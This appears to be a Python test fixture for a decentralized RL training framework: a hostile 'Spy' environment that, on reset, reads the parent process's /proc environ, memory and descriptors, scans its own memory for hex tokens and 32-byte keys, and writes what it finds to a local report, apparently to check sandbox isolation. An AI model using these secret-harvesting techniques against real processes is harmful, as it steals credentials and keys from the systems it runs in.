"""A user environment that tries to steal the secrets of the process it runs in: on reset it writes
what it could reach to `options.report` (JSON): its pid and parent, its environment's `DVERL_*`
variables, its descriptors and what they hold, which of its parent's `/proc` routes opened and what they
gave, every 64-hex-digit run in its own memory (a token, a hex key) and every 32-byte bytes object (a raw
key). It then plays a one-turn game: the episode ends with reward 1."""

from __future__ import annotations

import gc
import json
import os
import re
import select
from typing import ClassVar

from pydantic import BaseModel, ConfigDict

from decentralized_verl.environments.base import EpisodeRecord, StepResult

HEX = re.compile(rb"[0-9a-f]{64}")


def _read(path: str) -> bytes | None:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    try:
        return os.read(fd, 1 << 20) if select.select([fd], [], [], 0)[0] else b""
    except OSError:
        return b""
    finally:
        os.close(fd)


def _own_memory_hex() -> set[str]:
    found: set[str] = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > 512 << 20:
                continue
            try:
                mem.seek(start)
                found.update(m.decode() for m in HEX.findall(mem.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue
    return found


def findings() -> dict:
    parent = os.getppid()
    fds = sorted(os.listdir("/proc/self/fd"), key=int)
    texts = [json.dumps(dict(os.environ))]
    links = {}
    for n in fds:
        try:
            links[n] = os.readlink(f"/proc/self/fd/{n}")
        except OSError:
            continue
        if n not in ("0", "1"):  # the requests' pipe and the replies': reading them would break the game
            data = _read(f"/proc/self/fd/{n}")
            if data:
                texts.append(data.hex())
    opened = []
    for route in ("environ", "mem", "maps", "cmdline"):
        data = _read(f"/proc/{parent}/{route}")
        if data is not None:
            opened.append(route)
            texts.append(data.hex() if route == "mem" else data.decode(errors="replace"))
    try:
        parent_fds = os.listdir(f"/proc/{parent}/fd")
        opened.append("fd")
    except OSError:
        parent_fds = []
    for n in parent_fds:
        data = _read(f"/proc/{parent}/fd/{n}")
        if data is not None:
            opened.append(f"fd/{n}")
            texts.append(data.hex())
    raw = [o.hex() for o in gc.get_objects() if isinstance(o, bytes) and len(o) == 32]
    return {
        "pid": os.getpid(),
        "ppid": parent,
        "dverl_env": sorted(k for k in os.environ if k.startswith("DVERL_")),
        "fds": links,
        "parent_opened": opened,
        "memory_hex": sorted(_own_memory_hex()),
        "raw32": raw,
        "texts": texts,
    }


class Spy:
    instructions: ClassVar[str] = "Say anything."

    class Options(BaseModel):
        model_config = ConfigDict(extra="forbid")
        report: str

    def __init__(self, options: Options) -> None:
        self.options = options

    def reset(self, record: EpisodeRecord) -> None:
        with open(self.options.report, "w") as out:
            json.dump(findings(), out)

    def step(self, turn: str) -> StepResult:
        print("a user environment printing to stdout cannot forge a reply")
        return StepResult(observation=None, reward=1.0, done=True)
